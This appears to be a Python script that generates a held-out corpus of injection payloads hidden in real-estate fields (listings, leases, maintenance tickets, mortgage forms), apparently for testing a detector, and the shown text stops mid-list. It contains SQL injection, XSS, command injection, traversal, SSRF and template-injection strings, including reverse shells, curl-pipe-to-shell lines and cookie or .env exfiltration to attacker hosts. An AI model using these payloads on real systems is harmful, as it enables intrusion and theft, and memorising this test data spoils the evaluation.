"""Attack held-out corpus for the realestate theme (ids ha31-NNNNN).

Payloads hidden in listing, tenant-portal, maintenance-ticket, construction document
control and mortgage-application fields. Each (class, value) literal was written by hand
for this corpus from an understanding of the technique; templates only wrap small
hand-written payload pools in hand-written domain prefixes. Class names are
<context>-<technique>[+<encoding>]. Standard library only, deterministic output.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 3102

# --------------------------------------------------------------------------- sqli
SQLI = [
    ("listing-search-union", "3BR' UNION SELECT username, password_hash, NULL FROM agents-- -"),
    ("listing-search-union", "Riverside%' UNION ALL SELECT 1,email,phone,4,5 FROM tenants WHERE '1%'='1"),
    ("listing-price-boolean", "250000 OR 1=1"),
    ("listing-price-boolean", "399900) OR (1=1"),
    ("listing-sort-orderby", "price_asc, (CASE WHEN (SELECT substr(api_key,1,1) FROM integrations LIMIT 1)='a' THEN sqft ELSE beds END)"),
    ("listing-sort-orderby", "list_date DESC, IF(ASCII(SUBSTRING(DATABASE(),1,1))>100,SLEEP(4),0)"),
    ("address-unit-stacked", "Apt #4B'; DROP TABLE work_orders;--"),
    ("address-unit-stacked", "Unit 12-A'; UPDATE leases SET rent_cents=100 WHERE unit_id='12-A';--"),
    ("address-zip-boolean", "10019' AND '1'='1"),
    ("address-zip-boolean", "33139' AND (SELECT COUNT(*) FROM users)>0 AND 'z'='z"),
    ("maintenance-ticket-time", "MT-20931' AND SLEEP(6)-- "),
    ("maintenance-ticket-time", "MT-20931'; SELECT pg_sleep(7);--"),
    ("maintenance-ticket-time", "20931; WAITFOR DELAY '0:0:8'--"),
    ("maintenance-note-error", "sink leak' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT password FROM users LIMIT 1)))-- -"),
    ("maintenance-note-error", "heat off' AND UPDATEXML(NULL, CONCAT(0x3a, VERSION()), NULL)-- "),
    ("maintenance-note-error", "ticket' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("maintenance-note-error", "dripping' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("lease-id-union", "LS-2025-0412' UNION SELECT NULL,ssn,dob,NULL FROM applicants--"),
    ("lease-id-union", "-1 UNION SELECT table_name,column_name,3 FROM information_schema.columns--"),
    ("lease-clause-stacked", "Tenant shall keep drains clear.'); INSERT INTO admins(email,role) VALUES('x@attacker.example','owner');--"),
    ("mortgage-employer-boolean", "Union Pacific' OR 'a'='a"),
    ("mortgage-employer-boolean", "Exec Staffing' OR 1=1 LIMIT 1 OFFSET 3-- "),
    ("mortgage-income-union", "92500 UNION SELECT account_no, routing_no FROM bank_accounts"),
    ("mortgage-ssn-blind", "123-45-6789' AND SUBSTRING((SELECT credit_score FROM applicants WHERE id=7),1,1)='7"),
    ("mortgage-income-time", "92500 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("hoa-vote-union", "4-1') UNION SELECT owner_name, unit, balance FROM ledgers WHERE ('x'='x"),
    ("hoa-minutes-stacked", "Motion passed 4-1; mgr to get bids';TRUNCATE TABLE ballots;--"),
    ("rfi-number-boolean", "RFI-042' OR '1'='1' --"),
    ("rfi-number-union", "RFI-057' UNION SELECT file_path, uploaded_by FROM documents WHERE '1'='1"),
    ("submittal-section-blind", "09 29 00' AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1--"),
    ("submittal-section-blind", "08 71 00' AND (ascii(substr((select user from dual),1,1)))>64--"),
    ("spec-section-oracle", "03 30 00' || (SELECT UTL_INADDR.get_host_address('x.attacker.example') FROM dual) || '"),
    ("spec-section-oob", "05 12 00'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\s';--"),
    ("cad-path-sqlite", "A-201_RevC.dwg' UNION SELECT sql, 2 FROM sqlite_master--"),
    ("cad-path-sqlite", "S-301' AND (SELECT hex(randomblob(300000000)))-- "),
    ("inspection-item-stacked", "PL-0127'; ALTER USER inspector WITH SUPERUSER;--"),
    ("inspection-item-stacked", "Item 14'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/p|sh';--"),
    ("tenant-search-like", "Kowalski%' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("tenant-email-boolean", "jdoe@example.com' OR '1'='1' #"),
    ("tenant-login-bypass", "admin'-- "),
    ("tenant-login-bypass", "manager@acme-pm.example' /*"),
    ("tenant-login-bypass", "' OR 2>1 LIMIT 1#"),
    ("listing-hoa-fee-boolean", "250 AND 1=1"),
    ("listing-hoa-fee-boolean", "250 AND 7=(SELECT 7 WHERE 1=1)"),
    ("listing-beds-union", "3 UNION SELECT group_concat(username||':'||password) FROM staff"),
    ("listing-id-json", "4821 AND JSON_EXTRACT((SELECT settings FROM site_config), '$.stripe_secret') IS NOT NULL"),
    ("vendor-name-second-order", "Acme Roofing'); DELETE FROM invoices WHERE ('1'='1"),
    ("lockbox-code-union", "4-7-#' UNION SELECT door_id, pin FROM smart_lock_codes-- "),
    ("parcel-id-boolean", "12-34-567-890-0000' OR ''='"),
    ("apn-mssql-stacked", "4321-012-034'; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--"),
    ("meter-read-having", "1,380' GROUP BY unit HAVING 1=1--"),
    ("listing-desc-insert", "Great light!'), ((SELECT password FROM users WHERE role='admin'), 'x')-- "),
    ("plain-sqli-union", "' UNION SELECT NULL, NULL, NULL--"),
    ("plain-sqli-boolean", "1' OR '1'='1"),
    ("plain-sqli-time", "1; SELECT SLEEP(10)"),
    ("plain-sqli-stacked", "x'; DROP TABLE users; --"),
    ("plain-sqli-error", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-sqli-boolean", "\" OR \"\"=\""),
    ("plain-sqli-union", "0 UNION SELECT user(), database()"),
    ("plain-sqli-time", "'; WAITFOR DELAY '0:0:5'--"),
    ("listing-search-union+comment-space", "Loft'/**/UNION/**/SELECT/**/email,pw_hash/**/FROM/**/agents--"),
    ("listing-search-union+case-mix", "Studio' uNiOn SeLeCt credit_card, cvv FrOm payments-- -"),
    ("maintenance-ticket-boolean+urlenc", "MT-1%27%20OR%20%271%27%3D%271"),
    ("mortgage-employer-union+double-urlenc", "Acme%2527%2520UNION%2520SELECT%2520ssn%252Cnull%2520FROM%2520applicants--"),
    ("address-unit-boolean+mysql-versioned-comment", "4B'/*!50000OR*/ 1=1-- "),
    ("listing-price-time+hex", "1 AND IF(0x31=0x31,SLEEP(5),0)"),
]

# --------------------------------------------------------------------------- xss
XSS = [
    ("listing-title-script", "Sunny 2BR <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("listing-title-img-onerror", "3BR/2BA <img src=x onerror=alert(document.domain)>"),
    ("listing-desc-svg-onload", "Great views! <svg onload=\"location='https://attacker.example/?s='+localStorage.token\">"),
    ("listing-desc-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.postMessage(document.cookie,'*')</script>\"></iframe> HOA incl."),
    ("listing-desc-details-ontoggle", "<details open ontoggle=alert(1)><summary>Floor plan</summary></details>"),
    ("listing-desc-body-onload", "<body onload=import('//attacker.example/x.js')>"),
    ("virtual-tour-url-javascript", "javascript:alert(document.cookie)//https://tours.example-realty.com/3d/4821"),
    ("virtual-tour-url-javascript", "JaVaScRiPt:fetch('//attacker.example/'+btoa(document.cookie))"),
    ("virtual-tour-url-data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgndG91cicpPC9zY3JpcHQ+"),
    ("virtual-tour-attr-breakout", "https://tours.example-realty.com/3d/4821\" onmouseover=\"alert(1)\" x=\""),
    ("virtual-tour-attr-breakout", "https://my.matterport.example/show/?m=Zq7x2' autofocus onfocus='alert(document.domain)"),
    ("address-unit-script", "Apt #4B</td><script>new Image().src='//attacker.example/l?c='+document.cookie</script>"),
    ("address-line-textarea-breakout", "c/o PM LLC</textarea><img src=1 onerror=alert(2)>"),
    ("address-line-title-breakout", "Unit 12-A</title><script>alert('addr')</script>"),
    ("maintenance-note-img", "Sink leaking under cabinet <img src=/ onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    ("maintenance-note-video", "Photos: <video><source onerror=\"alert('pest')\"></video>"),
    ("maintenance-note-audio", "<audio src=x onerror=prompt(1)>heater noise recording</audio>"),
    ("maintenance-note-a-href", "<a href=\"javascript:void(document.body.innerHTML='Session expired, log in: <form action=//attacker.example>')\">see photo</a>"),
    ("maintenance-note-style-animation", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(1)\">leak</div>"),
    ("maintenance-note-input-autofocus", "<input autofocus onfocus=alert(document.cookie)> thermostat 58°F"),
    ("maintenance-note-marquee", "<marquee onstart=alert('ticket')>URGENT heat off</marquee>"),
    ("inspection-item-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("inspection-item-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert('mxss')>\">"),
    ("inspection-photo-svg-upload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('roof.svg')</script></svg>"),
    ("inspection-caption-object", "<object data=\"javascript:alert(1)\">DJI_0042.JPG</object>"),
    ("rfi-subject-script-src", "RFI-042 Gypsum <script src=//attacker.example/rfi.js></script>"),
    ("rfi-body-base-href", "<base href=\"https://attacker.example/\">Please clarify Section 09 29 00."),
    ("rfi-body-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">Dwg A-201"),
    ("rfi-body-form-action", "<form action=https://attacker.example/steal><input name=pw type=password placeholder='Re-enter ACC password'><button>OK</button></form>"),
    ("submittal-filename-img", "09 29 00-001 R1\"><img src=x onerror=alert(1)>.pdf"),
    ("cad-filename-svg", "A-201<svg/onload=alert`1`>.dwg"),
    ("lease-clause-js-context", "Tenant shall not sublet';alert(document.cookie);//"),
    ("lease-clause-js-context", "\\\";fetch('//attacker.example/?'+document.cookie);//"),
    ("lease-clause-template-literal", "${alert(document.domain)}"),
    ("lease-clause-script-close", "</script><script>alert('lease')</script>"),
    ("mortgage-employer-img", "Union Pacific<img src=x:x onerror=alert(1)>"),
    ("mortgage-explain-iframe", "Tax refund deposit <iframe src=\"javascript:alert(`loe`)\"></iframe>"),
    ("mortgage-explain-embed", "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("hoa-minutes-angular-csti", "Motion passed {{constructor.constructor('alert(1)')()}}"),
    ("hoa-minutes-vue-csti", "Owner comment: {{_c.constructor('alert(document.cookie)')()}}"),
    ("hoa-minutes-dom-clobber", "<form id=config><input name=apiBase value=https://attacker.example></form>Reserve study 62%"),
    ("hoa-comment-link-dataurl", "<a href=\"data:text/html,<script>alert(document.domain)</script>\">Reserve study PDF</a>"),
    ("smartlock-name-img", "Front Entry<img src onerror=alert(1)>"),
    ("smartlock-name-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("smartlock-log-svg-set", "<svg><set attributeName=href to=javascript:alert(1) /><a><text y=20>code 2</text></a></svg>"),
    ("tenant-display-name-script", "María <script>alert('tenant')</script> López"),
    ("tenant-display-name-onpointer", "<div onpointerenter=alert(1) style=position:fixed;inset:0>Kowalski 4B</div>"),
    ("listing-json-ld-breakout", "</script><script>alert(JSON.stringify(window.__INITIAL_STATE__))</script>"),
    ("listing-desc-srcset", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("listing-desc-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>"),
    ("listing-desc-button-formaction", "<form><button formaction=javascript:alert(1)>Schedule showing</button></form>"),
    ("plain-xss-script", "<script>alert(1)</script>"),
    ("plain-xss-img", "<img src=x onerror=alert(1)>"),
    ("plain-xss-svg", "<svg onload=alert(1)>"),
    ("plain-xss-attr-breakout", "\"><script>alert(document.domain)</script>"),
    ("plain-xss-javascript-uri", "javascript:alert(1)"),
    ("plain-xss-body", "<body onload=alert('x')>"),
    ("plain-xss-iframe", "<iframe src=\"javascript:alert(1)\">"),
    ("listing-title-script+html-entity", "&lt;script&gt;alert(1)&lt;/script&gt; 2BR"),
    ("virtual-tour-url-javascript+html-entity", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("virtual-tour-url-javascript+tab-split", "java\tscript:alert(document.domain)"),
    ("maintenance-note-img+urlenc", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("maintenance-note-script+double-urlenc", "%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"),
    ("lease-clause-js-context+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("hoa-minutes-svg+case-mix", "<SvG/OnLoAd=alert(1)>"),
    ("rfi-body-img+hex-entity", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>"),
]

# --------------------------------------------------------------------------- cmdi
CMDI = [
    ("cad-filename-semicolon", "A-201_RevC.dwg; curl -s http://203.0.113.7/x.sh | sh"),
    ("cad-filename-subshell", "S-301 $(id > /tmp/pwn).dwg"),
    ("cad-filename-backtick", "M-401_`uname -a`.pdf"),
    ("cad-filename-pipe", "Floor Plans L2.dwg | nc 198.51.100.4 4444 -e /bin/sh"),
    ("cad-filename-ampersand", "plan.pdf && wget -qO- http://attacker.example/k | bash"),
    ("cad-filename-newline", "A-101.pdf\nrm -rf /var/www/listings/uploads"),
    ("cad-convert-option-injection", "--output=/var/www/html/shell.php A-201.dwg"),
    ("cad-convert-option-injection", "-o /etc/cron.d/job floorplan.dxf"),
    ("pdf-render-imagemagick", "A-201.pdf[0]' -write /var/www/html/s.php 'x.png"),
    ("photo-name-exiftool", "IMG_2041.jpg; exiftool -config /tmp/e.cfg -all= /etc/passwd"),
    ("photo-resize-dimension", "800x600; cat /etc/shadow > /var/www/listings/uploads/s.txt"),
    ("photo-resize-dimension", "1024x768`sleep 9`"),
    ("zip-archive-name", "Submittal 08 71 00-003 Rev1.zip'; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1; echo '"),
    ("tour-url-ffmpeg", "https://tours.example-realty.com/v.mp4; ffmpeg -i /etc/passwd -f mp3 http://attacker.example:8000/"),
    ("tour-url-youtube-dl", "--exec 'curl attacker.example/$(whoami)' https://youtu.be/dQw-tour4B"),
    ("smartlock-ping-host", "192.0.2.15; cat /etc/passwd"),
    ("smartlock-ping-host", "lock-4b.local && busybox telnetd -l /bin/sh -p 2323"),
    ("smartlock-ping-host", "127.0.0.1|id"),
    ("bms-device-ip", "10.0.5.21%0awget http://198.51.100.20/bot -O /tmp/b"),
    ("bms-snmp-community", "public' ; /bin/sh -c 'id>/tmp/o' #"),
    ("bms-sensor-name", "HVAC-4 $(curl -d @/etc/hostname http://attacker.example)"),
    ("thermostat-ssid", "MapleCourt-Guest\"; reboot; \""),
    ("thermostat-ssid", "Guest`nslookup $(hostname).oob.attacker.example`"),
    ("gate-code", "4711 || sleep 10"),
    ("gate-code", "0000;${IFS}cat${IFS}/etc/passwd"),
    ("maintenance-note-mail-cmd", "sink leak\" | mail -s pwn x@attacker.example < /etc/passwd #"),
    ("maintenance-unit-sms", "4B; python3 -c 'import os;os.system(\"id\")'"),
    ("address-geocode", "4821 Main St #4B; perl -e 'print `id`'"),
    ("address-geocode", "221 W 57th St$(printf '\\x3b')id"),
    ("parcel-gis-lookup", "12-34-567-890-0000 & certutil -urlcache -split -f http://203.0.113.8/a.exe a.exe & a.exe"),
    ("apn-report-windows", "4321-012-034 | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p')\""),
    ("apn-report-windows", "4321-012-034 & type C:\\Windows\\win.ini"),
    ("apn-report-windows", "4321-012-034%26whoami"),
    ("lease-pdf-sign-name", "María López'$(touch /tmp/signed)'"),
    ("lease-pdf-sign-name", "J. O'Neil\"; nohup sh -c 'sleep 3600' & #"),
    ("mortgage-doc-ocr-lang", "eng+deu; curl -F f=@/app/.env https://attacker.example/up"),
    ("mortgage-employer-verify", "Exec Staffing LLC`curl attacker.example/v`"),
    ("backup-job-name", "hoa-2025 -- ; tar czf - /var/lib/postgres | curl -T - http://198.51.100.3/"),
    ("rfi-git-branch", "rfi-042 --upload-pack='touch /tmp/gitpwn'"),
    ("rfi-git-branch", "main -c core.sshCommand='sh -c id>&2'"),
    ("spec-grep-term", "Gypsum --include=* -r /etc -e root"),
    ("spec-find-name", "09 29 00 -exec sh -c 'id' ;"),
    ("spec-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/x.sh"),
    ("schedule-export-xer", "Schedule_Baseline_v3.xer;{cat,/etc/passwd}"),
    ("schedule-export-xer", "v3.xer;c''at /e't'c/pa''sswd"),
    ("schedule-export-xer", "v3.xer;/???/c?t /???/p?ss??"),
    ("point-cloud-path", "scans/L1_east.e57\r\nnet user hacker P@ssw0rd! /add"),
    ("drone-photo-label", "DJI_0042 $(echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3J8c2g= | base64 -d | sh)"),
    ("plain-cmdi-semicolon", "; id"),
    ("plain-cmdi-subshell", "$(whoami)"),
    ("plain-cmdi-pipe", "| cat /etc/passwd"),
    ("plain-cmdi-backtick", "`sleep 8`"),
    ("plain-cmdi-and", "&& uname -a"),
    ("plain-cmdi-or", "|| ping -c 5 203.0.113.2"),
    ("plain-cmdi-windows", "& dir C:\\"),
    ("cad-filename-semicolon+urlenc", "A-201.dwg%3B%20curl%20attacker.example%2Fs%7Csh"),
    ("smartlock-ping-host+double-urlenc", "10.0.0.9%253Bid"),
    ("gate-code+ifs-brace", "1234;{wget,-qO-,http://203.0.113.7/s}|sh"),
    ("thermostat-ssid+hex-escape", "Guest$(printf '\\x69\\x64')"),
    ("apn-report-windows+caret-obfuscation", "4321 & w^h^o^a^m^i"),
]

# --------------------------------------------------------------------------- traversal
TRAVERSAL = [
    ("cad-path-dotdot", "../../../../etc/passwd"),
    ("cad-path-dotdot", "../Xrefs/../../../../../proc/self/environ"),
    ("cad-path-dotdot-windows", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("cad-path-absolute", "/etc/shadow"),
    ("cad-path-absolute-windows", "C:\\inetpub\\wwwroot\\web.config"),
    ("cad-path-unc", "\\\\203.0.113.14\\share\\A-201.dwg"),
    ("submittal-download-dotdot", "Submittals/09 29 00 - Gypsum Board/../../../../app/config/settings.py"),
    ("submittal-download-dotdot", "09 29 00-001 R1.pdf/../../../../../root/.ssh/id_rsa"),
    ("lease-pdf-dotdot", "Lease_Unit-4B_2025-06-01_signed.pdf/../../../.env"),
    ("lease-pdf-dotdot", "../../leases/2025/Unit 12-A/../../../../var/lib/tenant-portal/db.sqlite3"),
    ("photo-path-dotdot", "photos/2024/03/Unit 4B/../../../../../../proc/self/cmdline"),
    ("photo-path-null-byte", "../../../../etc/passwd%00.jpg"),
    ("photo-path-null-byte", "../../../../app/secrets.yaml\u0000IMG_2041.jpg"),
    ("inspection-report-dotdot", "Inspections/Move-out/12-A/../../../../../home/app/.aws/credentials"),
    ("template-name-dotdot", "lease_templates/../../../../etc/hostname"),
    ("floorplan-image-absolute", "/var/www/listings/uploads/../../../../etc/nginx/nginx.conf"),
    ("floorplan-image-dotdot-nested", "....//....//....//....//etc/passwd"),
    ("floorplan-image-dotdot-nested", "..././..././..././..././etc/passwd"),
    ("floorplan-image-dotdot-nested-windows", "....\\\\....\\\\....\\\\Windows\\win.ini"),
    ("locale-file-dotdot", "../../../../usr/share/zoneinfo/../../../etc/group"),
    ("bim-model-file-uri", "file:///etc/passwd"),
    ("bim-model-file-uri", "file://localhost/C:/Windows/win.ini"),
    ("hoa-doc-download-dotdot", "HOA_Budget_2025 FINAL (2).xlsx/../../../../var/log/auth.log"),
    ("hoa-doc-dotdot-mixed", "docs/..\\..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("tour-asset-dotdot", "matterport/../../../../proc/1/root/etc/passwd"),
    ("zip-slip-entry", "../../../../var/www/html/shell.php"),
    ("zip-slip-entry", "..\\..\\..\\..\\inetpub\\wwwroot\\cmd.aspx"),
    ("zip-slip-entry", "Submittal/../../../home/app/.bashrc"),
    ("archive-symlink-target", "drawings/link -> /etc"),
    ("ifc-export-dir", "/tmp/../../root/.bash_history"),
    ("schedule-import-proc", "/proc/self/fd/3"),
    ("schedule-import-dev", "/dev/stdin"),
    ("log-view-dotdot", "access.log/../../../../../etc/ssl/private/server.key"),
    ("java-webinf", "../WEB-INF/web.xml"),
    ("java-webinf", "/docs/..;/WEB-INF/classes/application.properties"),
    ("plain-traversal-dotdot", "../../../etc/passwd"),
    ("plain-traversal-windows", "..\\..\\..\\boot.ini"),
    ("plain-traversal-absolute", "/etc/passwd"),
    ("plain-traversal-proc", "../../../../proc/self/environ"),
    ("cad-path-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("cad-path-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("photo-path-dotdot+overlong-utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("lease-pdf-dotdot+unicode-slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("hoa-doc-dotdot+urlenc-backslash", "..%5c..%5c..%5cWindows%5cwin.ini"),
]

# --------------------------------------------------------------------------- ssrf
SSRF = [
    ("virtual-tour-url-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("virtual-tour-url-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("virtual-tour-url-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
    ("virtual-tour-url-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("virtual-tour-url-metadata-ecs", "http://169.254.170.2/v2/credentials/"),
    ("virtual-tour-url-localhost", "http://localhost:8080/admin/users?export=csv"),
    ("virtual-tour-url-localhost", "http://127.0.0.1:6379/"),
    ("virtual-tour-url-internal", "http://10.0.0.5:9200/_cat/indices"),
    ("virtual-tour-url-internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("virtual-tour-url-internal", "http://172.17.0.1:2375/containers/json"),
    ("virtual-tour-url-internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("listing-photo-import-url", "https://tours.example-realty.com@127.0.0.1/3d/4821"),
    ("listing-photo-import-url", "http://tours.example-realty.com.127.0.0.1.nip.io/admin"),
    ("listing-photo-import-url", "http://[::1]:8000/internal/health"),
    ("listing-photo-import-url", "http://[::ffff:169.254.169.254]/latest/user-data"),
    ("listing-photo-import-url", "http://0.0.0.0:5000/debug/console"),
    ("mls-feed-url-gopher", "gopher://127.0.0.1:6379/_SET%20pwn%20%22x%22%0D%0ASAVE%0D%0A"),
    ("mls-feed-url-gopher", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cpm@acme.example%3E%0D%0A"),
    ("mls-feed-url-dict", "dict://127.0.0.1:11211/stats"),
    ("mls-feed-url-ftp", "ftp://10.0.0.8/backups/db.sql"),
    ("mls-feed-url-ldap", "ldap://127.0.0.1:389/dc=acme,dc=internal"),
    ("mls-feed-url-file", "file:///proc/self/environ"),
    ("smartlock-webhook-url", "http://127.0.0.1:8123/api/services/lock/unlock"),
    ("smartlock-webhook-url", "http://localhost:15672/api/users"),
    ("smartlock-webhook-url", "http://internal-bms.local:47808/"),
    ("bms-device-url", "http://10.10.0.2/goform/setSysAdm?admpass=x"),
    ("tour-embed-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("tour-embed-dns-rebind", "http://a9fea9fe.7f000001.rbndr.attacker.example/latest/meta-data/"),
    ("tour-embed-dns-rebind", "http://169-254-169-254.attacker.example/latest/api/token"),
    ("rfi-attachment-url", "http://127.0.0.1:8000/api/v1/admin/export?all=true"),
    ("submittal-link-url", "http://localhost/server-status"),
    ("submittal-link-url", "http://127.0.0.1:9090/-/reload"),
    ("cad-xref-url", "http://consul.service.internal:8500/v1/kv/?recurse"),
    ("mortgage-doc-url", "https://docs.lender.example/upload#@127.0.0.1:3000/"),
    ("mortgage-doc-url", "http://127.1/admin"),
    ("plain-ssrf-metadata", "http://169.254.169.254/"),
    ("plain-ssrf-localhost", "http://localhost/"),
    ("plain-ssrf-internal", "http://10.0.0.1/"),
    ("plain-ssrf-file", "file:///etc/hosts"),
    ("virtual-tour-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("virtual-tour-url-localhost+hex-ip", "http://0x7f000001:8080/admin"),
    ("virtual-tour-url-localhost+octal-ip", "http://0177.0.0.1/"),
    ("listing-photo-import-url+mixed-ip", "http://0xa9.254.0251.254/latest/meta-data/"),
    ("listing-photo-import-url+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("smartlock-webhook-url+ipv6-mapped", "http://[0:0:0:0:0:ffff:7f00:1]:8123/api/"),
]

# --------------------------------------------------------------------------- code
CODE = [
    ("listing-desc-ssti-jinja2", "Bright 3BR {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("listing-desc-ssti-jinja2", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('curl attacker.example') }}"),
    ("listing-desc-ssti-jinja2", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("listing-desc-ssti-jinja2", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("listing-desc-ssti-jinja2", "{{ config.items() }}"),
    ("lease-template-ssti-jinja2", "Tenant: {{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("lease-template-ssti-jinja2-filter", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"),
    ("lease-template-ssti-twig", "{{ ['id']|filter('system') }}"),
    ("lease-template-ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("lease-template-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("lease-template-ssti-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
    ("lease-template-ssti-erb", "Rent due <%= `id` %> on the 1st"),
    ("lease-template-ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("lease-template-ssti-mako", "${__import__('os').popen('id').read()}"),
    ("lease-template-ssti-tornado", "{% import os %}{{ os.popen('uname -a').read() }}"),
    ("lease-template-ssti-smarty", "{system('cat /etc/passwd')}"),
    ("lease-template-ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("lease-template-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("lease-template-ssti-pug", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("lease-template-ssti-ejs", "<%= process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("lease-template-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("hoa-minutes-spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("hoa-minutes-spel", "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}"),
    ("hoa-minutes-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("hoa-minutes-ognl", "${@java.lang.Runtime@getRuntime().exec(\"id\")}"),
    ("hoa-minutes-el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("hoa-minutes-mvel", "Runtime.getRuntime().exec('id');"),
    ("mortgage-employer-log4shell", "${jndi:ldap://attacker.example:1389/emp}"),
    ("mortgage-employer-log4shell", "Union Pacific ${jndi:rmi://203.0.113.21:1099/o}"),
    ("mortgage-employer-log4shell", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}"),
    ("mortgage-employer-log4shell", "${${::-j}${::-n}${::-d}${::-i}:dns://oob.attacker.example/m}"),
    ("user-agent-log4shell-env", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/x}"),
    ("maintenance-note-log4shell", "Heat not working ${jndi:ldaps://198.51.100.77/t}"),
    ("listing-json-proto-pollution", "{\"title\":\"3BR\",\"__proto__\":{\"isAdmin\":true}}"),
    ("listing-json-proto-pollution", "{\"constructor\":{\"prototype\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}}"),
    ("tenant-prefs-proto-pollution", "__proto__[role]=manager"),
    ("tenant-prefs-proto-pollution", "constructor[prototype][shell]=/proc/self/exe"),
    ("tenant-prefs-proto-pollution", "{\"__proto__\":{\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("rent-roll-csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Unit 4B\")"),
    ("rent-roll-csv-formula", "=cmd|' /C calc'!A0"),
    ("rent-roll-csv-formula", "@SUM(1+9)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
